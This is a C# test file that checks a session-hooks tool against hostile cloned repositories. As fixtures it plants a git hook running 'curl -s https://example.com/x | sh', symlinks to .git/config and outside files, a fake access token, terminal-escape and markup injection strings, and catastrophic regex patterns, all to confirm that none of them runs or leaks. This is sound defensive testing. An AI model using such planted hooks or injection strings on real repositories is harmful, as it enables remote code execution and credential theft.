using System.Diagnostics;
using System.Text.Json;
using System.Text.Json.Nodes;
using SessionHooks.Testing;

namespace SessionHooks.Security.Tests;

/// <summary>
/// Repositories that commit an attack, cloned by a victim who runs every command and hook on them
/// (install, checkout, commit, log, note, start, context, journal, list, status, validate, recover,
/// push, end): nothing outside the repository changes, no planted command runs, nothing from
/// outside is printed or written into the clone, each refusal is one located line, no stack trace.
/// </summary>
public class HostileRepositoryTests
{
    /// <summary>Paths SessionHooks owns, committed as links to files and folders outside the clone.</summary>
    [TestCase(".husky/pre-commit", "file")]
    [TestCase(".husky/sessionhooks.sh", "file")]
    [TestCase(".husky/task-runner.json", "file")]
    [TestCase(".husky", "folder")]
    [TestCase(".gitattributes", "file")]
    [TestCase(".gitignore", "file")]
    [TestCase(".sessions/schemas", "folder")]
    [TestCase(".sessions", "folder")]
    [TestCase(".sessions/worklog.json", "private.txt")]
    [TestCase(".sessions/ai_sessions.json", "private.json")]
    [TestCase("SESSION_JOURNAL.md", "file")]
    public void CommittedLink_WhereAFileOfOursBelongs_IsNeverFollowed(string linked, string target)
    {
        var clone = HostileClone.Create((attacker, canary) => Link(attacker, linked, canary.Path(target)));

        clone.RunEverything();

        clone.AssertSafe();
        Assert.That(clone.Lines("SH5007"), Has.Some.Contain(linked),
            "a command refused the link, naming it");
    }

    [Test]
    public void SessionTextWithLineBreaksMarkupAndEscapes_StaysOneLineOfText_Everywhere()
    {
        const string Hostile = "Importer\n# Injected heading\n<script>alert(1)</script>\u001b[2J\u001b]0;pwned\u0007\u202eevil";
        var clone = HostileClone.Create((attacker, _) => EditSessions(attacker, sessions =>
        {
            var session = sessions["sessions"]![0]!;
            session["title"] = Hostile;
            session["summary"] = Hostile;
            session["context_notes"] = new JsonArray(Hostile, "- fake item\n```\nfence");
            sessions["context_notes"] = new JsonArray("```\n</details>");
        }));

        clone.RunEverything();
        clone.Git(clone.Installed, "checkout", "-q", "main");
        var show = clone.Session(clone.Installed, "show", (string)ReadJson(clone.Installed, ".sessions/ai_sessions.json")["sessions"]![0]!["id"]!);
        var journal = clone.Session(clone.Installed, "journal");

        clone.AssertSafe();
        Assert.That(journal.ExitCode, Is.Zero, journal.ToString());
        var written = File.ReadAllLines(clone.Installed.Path("SESSION_JOURNAL.md"));
        Assert.That(written, Has.None.StartWith("# Injected").And.None.StartWith("<script").And.None.StartWith("```"));
        Assert.That(written, Has.Some.Contains("Importer # Injected heading \\<script\\>"));
        foreach (var run in clone.Runs.Append(show))
        {
            Assert.That(run.Output.Any(c => char.IsControl(c) && c is not '\n' and not '\r' and not '\t'), Is.False, "no control character printed by " + run.Command);
            Assert.That(run.Output, Does.Not.Contain("\u202e"));
            Assert.That(run.Output.Split('\n'), Has.None.StartWith("# Injected"), run.Command);
        }
    }

    [Test]
    public void KnowledgeCache_PointingAtGitsFolderOrOutside_ReadsNothingOfIt()
    {
        const string RemoteToken = "ghp_REMOTE-URL-TOKEN-0123456789abcdefghij";
        var clone = HostileClone.Create((attacker, canary) =>
        {
            File.CreateSymbolicLink(attacker.Path("config-link"), ".git/config");
            Directory.CreateSymbolicLink(attacker.Path("outside-link"), canary.Folder);
            EditSessions(attacker, sessions => sessions["knowledge_cache"] = new JsonArray(
                "README.md", ".git/config", "./.git/config", ".git//config", ".GIT/config", "config-link", "outside-link/private.txt",
                canary.Path("private.txt"), "../canary/private.txt", "pipe"));
        });
        foreach (var victim in new[] { clone.Installed, clone.Fresh })
        {
            clone.Git(victim, "remote", "add", "upstream", $"https://x-access-token:{RemoteToken}@example.com/r.git");
        }

        GitRunner.Check(clone.Installed.Git.Exec(clone.Installed.Root, "mkfifo", ["pipe"]));
        clone.RunEverything();
        var huge = clone.Session(clone.Installed, "context", "--include-files", "--max-bytes", "3000000000");

        clone.AssertSafe(RemoteToken);
        Assert.That(huge.ExitCode, Is.EqualTo(2), huge.ToString());
        Assert.That(huge.StandardError.Trim(), Does.Contain("error SH6001: the limit is more than"));
        var context = clone.Runs.First(r => r.Command.EndsWith("context --include-files --json", StringComparison.Ordinal));
        var states = JsonNode.Parse(context.StandardOutput)!["knowledge_cache"]!.AsArray().ToDictionary(f => (string)f!["path"]!, f => (string)f!["state"]!);
        Assert.That(states["README.md"], Is.EqualTo("included"));
        Assert.That(states.Where(s => s.Key is not "README.md" and not "pipe").Select(s => s.Value), Is.All.EqualTo("outside_repository"));
        Assert.That(states["pipe"], Is.EqualTo("empty"));
    }

    [Test]
    public void GlobalHooksPath_InstallWritesNothingThere_AndACloneRunsNoRepositoryScript()
    {
        var clone = HostileClone.Create(
            (attacker, canary) => attacker.Write(".husky/sessionhooks.sh", $"#!/bin/sh\ntouch '{canary.Ran}/launcher-ran'\n"),
            (attacker, canary) => attacker.Run("config", "--global", "core.hooksPath", canary.Path("global-hooks")));

        clone.RunEverything();
        var another = clone.Attacker.Sibling(Path.Combine(Path.GetDirectoryName(clone.Installed.Root)!, "another"));
        clone.Git(another, "clone", "-q", clone.Remote, another.Root);
        clone.Git(another, "checkout", "-q", "-b", "topic");

        clone.AssertSafe();
        Assert.That(clone.Lines("SH5009"), Has.Some.Contain(clone.Canary.Path("global-hooks")).And.Some.Contain("git config --local core.hooksPath .husky"));
    }

    [Test]
    public void HookLinesAlreadyInTheClone_AreListedByInstall_BeforeTheyCanRun()
    {
        var clone = HostileClone.Create((attacker, canary) =>
        {
            attacker.Write(".husky/pre-rebase", $"#!/bin/sh\ncurl -s https://example.com/x | sh; touch '{canary.Ran}/pre-rebase-ran'\n");
            if (!OperatingSystem.IsWindows())
            {
                File.SetUnixFileMode(attacker.Path(".husky/pre-rebase"), (UnixFileMode)0b111_101_101);
            }
        });

        clone.RunEverything();

        clone.AssertSafe();
        var install = clone.Runs.Last(r => r.Command.Contains(" install ", StringComparison.Ordinal));
        Assert.That(install.StandardOutput, Does.Contain("run from the next commit on"));
        Assert.That(install.StandardOutput, Does.Contain($".husky/pre-rebase:2: curl -s https://example.com/x | sh; touch '{clone.Canary.Ran}/pre-rebase-ran'"));
    }

    [Test]
    public void ThousandCatastrophicSecretPatterns_LogOfAHundredKilobytes_FinishesInLinearTime()
    {
        var patterns = new JsonArray([.. Enumerable.Range(0, 1000).Select(i => (JsonNode)((i % 4) switch
        {
            0 => $"(a+)+b{i}",
            1 => $"(a|aa)+c{i}$",
            2 => $"([a-z]+)*\\d{{{(i % 7) + 1}}}x{i}",
            _ => $"(a*)*[{(char)('b' + (i % 20))}]{i}",
        }))]);
        var clone = HostileClone.Create((attacker, _) =>
            attacker.Write(".sessions/config.json", new JsonObject { ["schema_version"] = 1, ["secret_patterns"] = patterns }.ToJsonString() + "\n"));
        var text = new string('a', 100_000);
        clone.Session(clone.Installed, "log", "note", "warm up the process cache");

        var clock = Stopwatch.StartNew();
        var log = clone.Session(clone.Installed, "log", "note", text);
        clock.Stop();

        TestContext.Out.WriteLine($"session log, 1,000 catastrophic patterns, 100 KB text: {clock.ElapsedMilliseconds} ms (process included)");
        Assert.That(log.ExitCode, Is.Zero, log.ToString());
        Assert.That(clock.Elapsed, Is.LessThan(TimeSpan.FromSeconds(10)), "linear time: 240 such patterns took 61 s with the backtracking engine");
        var pending = Path.Combine(clone.Installed.GitDir(), "sessionhooks", "pending");
        var entries = Directory.GetFiles(pending, "*.json").SelectMany(f => JsonNode.Parse(File.ReadAllText(f))!["entries"]!.AsArray()).ToList();
        Assert.That((string?)entries[^1]!["text"], Is.EqualTo(text), "the text was checked, not given up on and replaced");
        clone.AssertSafe();
    }

    private static void Link(TempRepository repo, string relative, string target)
    {
        var path = repo.Path(relative);
        if (Directory.Exists(path))
        {
            Directory.Delete(path, recursive: true);
        }
        else if (File.Exists(path))
        {
            File.Delete(path);
        }

        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        if (Directory.Exists(target))
        {
            Directory.CreateSymbolicLink(path, target);
        }
        else
        {
            File.CreateSymbolicLink(path, target);
        }
    }

    private static void EditSessions(TempRepository repo, Action<JsonNode> edit)
    {
        var sessions = ReadJson(repo, ".sessions/ai_sessions.json");
        edit(sessions);
        repo.Write(".sessions/ai_sessions.json", sessions.ToJsonString(new JsonSerializerOptions { WriteIndented = true }) + "\n");
    }

    private static JsonNode ReadJson(TempRepository repo, string relative) => JsonNode.Parse(repo.Read(relative))!;
}
